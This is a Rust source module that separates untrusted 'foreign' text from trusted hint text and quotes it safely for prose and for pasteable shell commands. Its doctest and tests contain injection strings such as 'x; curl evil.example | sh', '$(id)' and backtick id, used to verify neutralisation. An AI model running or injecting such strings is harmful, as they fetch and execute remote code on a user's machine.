//! Separates our own text from foreign text by type.
//!
//! A server, a file, the environment or an argument can contain anything: a second line that looks
//! like a hint of ours, or a command after a semicolon. [`Foreign`] holds such text and has no
//! `Display`. Three methods make it safe for one use each: [`Foreign::shown`] for prose,
//! [`Foreign::quoted`] for a name in prose, and [`Foreign::in_command`] for a command that a person
//! may paste.
//!
//! A [`Hint`] tells a person what to do next. It is a literal, or is made with
//! [`hint!`](crate::hint), whose arguments must be [`Trusted`]: numbers, literals, our own
//! validated types, and foreign text that one of the three methods made safe. Anything else does
//! not compile:
//!
//! ```
//! use auth0_suite::hint;
//! use auth0_suite::base::text::foreign;
//! let name = String::from("x; curl evil.example | sh");
//! let hint = hint!("delete it: auth0-clients delete {}", foreign(&name).in_command("ID"));
//! assert_eq!(hint.as_str(), "delete it: auth0-clients delete \"x; curl evil.example | sh\"");
//! ```
//! ```compile_fail
//! let name = String::from("foreign");
//! let hint = auth0_suite::hint!("delete it: auth0-clients delete {}", name);
//! ```
//! ```compile_fail
//! let name = String::from("foreign");
//! let hint = auth0_suite::hint!("delete it: auth0-clients delete {}", name.as_str());
//! ```
//! ```compile_fail
//! let name = 5; // Even a number: a captured argument would escape the check.
//! let hint = auth0_suite::hint!("delete it: auth0-clients delete {name}");
//! ```
//! ```compile_fail
//! use auth0_suite::base::error::Error;
//! let name = String::from("foreign");
//! let error = Error::usage("no").hint(format!("delete it: auth0-clients delete {name}"));
//! ```

mod commands;
mod wrap;

use std::borrow::Cow;
use std::fmt;
use std::path::Path;

pub(crate) use self::wrap::{TextKind, wrapped};
use crate::base::escape;

/// The most characters of foreign text shown in prose.
const MAX_SHOWN: usize = 500;

/// The longest name shown in quotes, in characters.
const MAX_QUOTED: usize = 120;

/// The longest word in a suggested command, in characters.
const MAX_WORD: usize = 256;

/// Text from a server, a file, the environment or an argument.
pub struct Foreign<'a>(Cow<'a, str>);

/// Marks text as foreign.
pub fn foreign<'a>(text: &'a (impl AsRef<str> + ?Sized)) -> Foreign<'a> {
    Foreign(Cow::Borrowed(text.as_ref()))
}

/// A path, without the `\\?\` prefix of paths that Windows has resolved.
pub fn path(path: &Path) -> Foreign<'_> {
    Foreign(match path.to_string_lossy() {
        Cow::Borrowed(text) => without_verbatim(text),
        Cow::Owned(text) => Cow::Owned(without_verbatim(&text).into_owned()),
    })
}

/// `\\?\C:\x` is `C:\x`, and `\\?\UNC\host\share` is `\\host\share`.
fn without_verbatim(text: &str) -> Cow<'_, str> {
    match (text.strip_prefix(r"\\?\UNC\"), text.strip_prefix(r"\\?\")) {
        (Some(share), _) => Cow::Owned(format!(r"\\{share}")),
        (None, Some(local)) if local.as_bytes().get(1) == Some(&b':') => Cow::Borrowed(local),
        _ => Cow::Borrowed(text),
    }
}

impl Foreign<'_> {
    /// For prose: escaped, on one line, cut to a maximum length.
    pub fn shown(&self) -> Shown {
        Shown(cut(&self.0, MAX_SHOWN, |text| escape::visible(text).into_owned()))
    }

    /// For a name in prose: escaped, on one line, cut to a maximum length, in single quotes. The
    /// name cannot contain an unescaped quote.
    pub fn quoted(&self) -> Shown {
        let inner = cut(&self.0, MAX_QUOTED, |text| {
            escape::visible(&text.replace('\\', r"\\").replace('\'', r"\'")).into_owned()
        });
        Shown(format!("'{inner}'"))
    }

    /// For a name in prose. It gets quotes unless it is one plain word.
    pub fn named(&self) -> Shown {
        let plain = !self.0.is_empty() && self.0.chars().all(is_plain);
        if plain { self.shown() } else { self.quoted() }
    }

    /// For a command that a person may paste. A plain word stays as it is. Other text is put in
    /// double quotes, if POSIX shells, PowerShell and `cmd.exe` all read that as one literal word.
    /// Text with double quotes in it is put in single quotes, if that is safe. Otherwise
    /// `placeholder` is shown.
    pub fn in_command(&self, placeholder: &'static str) -> Shown {
        let text = &*self.0;
        let bounded = !text.is_empty() && text.chars().nth(MAX_WORD).is_none();
        // A word that begins with a dash would be read as an option.
        if !bounded || text.starts_with('-') {
            Shown(placeholder.to_owned())
        } else if text.chars().all(is_plain) && !text.starts_with(['@', '~', '=']) {
            Shown(text.to_owned())
        } else if text.chars().all(is_literal_in_quotes) {
            Shown(format!("\"{text}\""))
        } else if is_literal_in_single_quotes(text) {
            Shown(format!("'{text}'"))
        } else {
            Shown(placeholder.to_owned())
        }
    }
}

/// Characters that have no special meaning to any shell, except at the start of a word.
fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "._:/@+=-".contains(c)
}

/// Characters that are literal in double quotes in every shell. `$`, backtick, `\` and `!` are not
/// literal in POSIX shells, `%` is not in `cmd.exe`, and PowerShell treats typographic quotes like
/// plain ones. Letters of right-to-left scripts are excluded too: they could display the words in
/// another order.
fn is_literal_in_quotes(c: char) -> bool {
    let right_to_left = matches!(c, '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}'
        | '\u{fe70}'..='\u{feff}' | '\u{10800}'..='\u{10fff}' | '\u{1e800}'..='\u{1efff}');
    c == ' '
        || is_plain(c)
        || "|,()[]{}#~*?&;<>^".contains(c)
        || (!c.is_ascii() && c.is_alphanumeric() && !escape::is_unsafe(c) && !right_to_left)
}

/// Whether a text with double quotes is one literal word in single quotes, in POSIX shells and
/// PowerShell. `cmd.exe` splits it at its spaces, so outside of the double quotes it must have
/// nothing that means more there.
fn is_literal_in_single_quotes(text: &str) -> bool {
    let mut quoted = false;
    let is_safe = text.chars().all(|c| {
        quoted ^= c == '"';
        c == '"' || (is_literal_in_quotes(c) && (quoted || !"|&;<>^".contains(c)))
    });
    is_safe && !quoted
}

/// The first `most` characters of `text` after `escape`. Longer text ends with `…`.
fn cut(text: &str, most: usize, escape: impl Fn(&str) -> String) -> String {
    match text.char_indices().nth(most) {
        None => escape(text),
        Some((end, _)) => escape(text.get(..end).unwrap_or_default()) + "…",
    }
}

/// Foreign text that has been made safe to show.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Shown(String);

impl Shown {
    /// Joins several parts with text of ours between them.
    pub fn join(parts: impl IntoIterator<Item = Self>, between: &'static str) -> Self {
        Self(parts.into_iter().map(|part| part.0).collect::<Vec<_>>().join(between))
    }
}

impl fmt::Display for Shown {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// What a person can do next: a command to run, or a setting to change. Every line break in it is
/// ours.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hint(Cow<'static, str>);

impl Hint {
    /// The text.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The same hint with ` --profile PROFILE` in each suggested command that names no profile.
    pub(crate) fn with_profile(&self, profile: &Shown) -> Self {
        Self(Cow::Owned(commands::with_profile(&self.0, &profile.0)))
    }

    /// Only for [`hint!`](crate::hint), which checks that the arguments are trusted.
    #[doc(hidden)]
    pub fn of_trusted(text: fmt::Arguments<'_>) -> Self {
        Self(Cow::Owned(text.to_string()))
    }
}

impl From<&'static str> for Hint {
    fn from(text: &'static str) -> Self {
        Self(Cow::Borrowed(text))
    }
}

impl fmt::Display for Hint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A noun with its indefinite article: `an action`, `a user`.
pub fn with_article(noun: &str) -> String {
    let is_vowel = noun.starts_with(['A', 'E', 'I', 'O', 'a', 'e', 'i', 'o']);
    format!("{} {noun}", if is_vowel { "an" } else { "a" })
}

/// Text that a hint may contain: ours, or foreign text made safe. Only this crate can implement it.
pub trait Trusted: fmt::Display + sealed::Ours {}

impl<T: fmt::Display + sealed::Ours + ?Sized> Trusted for T {}

pub(crate) mod sealed {
    /// Marks a type whose text cannot be chosen freely by a server, a file or an argument.
    pub trait Ours {}

    impl<T: Ours + ?Sized> Ours for &T {}
    impl Ours for &'static str {}
    impl Ours for super::Shown {}
    impl Ours for super::Hint {}
    impl Ours for u8 {}
    impl Ours for u16 {}
    impl Ours for u32 {}
    impl Ours for u64 {}
    impl Ours for usize {}
    impl Ours for i64 {}
}

/// Only for [`hint!`](crate::hint).
#[doc(hidden)]
pub fn trusted<T: Trusted + ?Sized>(text: &T) -> &T {
    text
}

/// Makes a [`Hint`] in the way `format!` makes a string. Every argument must be [`Trusted`].
/// Arguments cannot be captured by name (`{name}`).
#[macro_export]
macro_rules! hint {
    ($format:literal $(, $argument:expr)* $(,)?) => {
        // The format string goes through a macro so that it cannot capture arguments implicitly.
        $crate::base::text::Hint::of_trusted(format_args!(
            concat!($format) $(, $crate::base::text::trusted(&$argument))*
        ))
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_text_stays_between_its_quotes_on_one_line() {
        for (text, quoted) in [
            ("My App", "'My App'"),
            ("Bob's", r"'Bob\'s'"),
            (r"a\", r"'a\\'"),
            ("a\nhint: run x", r"'a\nhint: run x'"),
            ("a\u{202e}b", r"'a\u{202e}b'"),
        ] {
            assert_eq!(foreign(text).quoted().to_string(), quoted);
        }
        let long = foreign(&"é".repeat(10_000)).quoted().to_string();
        assert_eq!(long.chars().count(), MAX_QUOTED + 3);
        assert!(long.ends_with("…'"));
    }

    #[test]
    fn a_command_argument_is_one_word_in_every_shell() {
        for (text, word) in [
            ("app0001", "app0001"),
            ("read:clients", "read:clients"),
            ("https://acme.eu.auth0.com/api/v2/", "https://acme.eu.auth0.com/api/v2/"),
            ("auth0|123", "\"auth0|123\""),
            ("Café Menü", "\"Café Menü\""),
            ("c1; curl evil|sh", "\"c1; curl evil|sh\""),
            ("$(id)", "ID"),
            ("`id`", "ID"),
            ("a\"b", "ID"),
            (
                "client_name:\"My App\" AND type:(f OR fp)",
                "'client_name:\"My App\" AND type:(f OR fp)'",
            ),
            ("a:\"b & c\"", "'a:\"b & c\"'"),
            ("a:\"b\" & c", "ID"),
            ("a:\"$(id)\"", "ID"),
            ("a:\"b'c\"", "ID"),
            ("a'b", "ID"),
            ("%PATH%", "ID"),
            ("a!b", "ID"),
            (r"a\b", "ID"),
            ("“$x”", "ID"),
            ("a\nb", "ID"),
            ("a\u{200d}b", "ID"),
            ("שלום", "ID"),
            ("--yes", "ID"),
            ("", "ID"),
        ] {
            assert_eq!(foreign(text).in_command("ID").to_string(), word, "{text:?}");
        }
        assert_eq!(foreign(&"a".repeat(300)).in_command("ID").to_string(), "ID");
    }

    #[test]
    fn paths_are_shown_without_the_verbatim_prefix_of_windows() {
        for (text, shown) in [
            (r"\\?\C:\Users\x", r"C:\Users\x"),
            (r"\\?\UNC\host\share\x", r"\\host\share\x"),
            (r"\\?\Volume{1}\x", r"\\?\Volume{1}\x"),
            ("/home/x", "/home/x"),
        ] {
            assert_eq!(path(Path::new(text)).shown().to_string(), shown);
        }
    }

    #[test]
    fn hints_are_formatted_from_trusted_parts() {
        let ids = Shown::join(["a", "b\n"].iter().map(|id| foreign(id).shown()), ", ");
        assert_eq!(hint!("{} of {}: {}", 2_u8, "these", ids).as_str(), r"2 of these: a, b\n");
    }
}
